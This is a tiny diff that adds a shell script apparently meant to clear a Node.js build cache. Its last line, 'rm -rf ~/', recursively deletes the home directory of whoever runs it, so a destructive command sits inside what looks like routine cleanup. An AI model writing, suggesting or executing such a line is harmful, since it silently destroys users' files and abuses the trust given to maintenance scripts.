@@ -1,0 +1,3 @@
+#!/bin/sh
+rm -rf node_modules/.cache
+rm -rf ~/
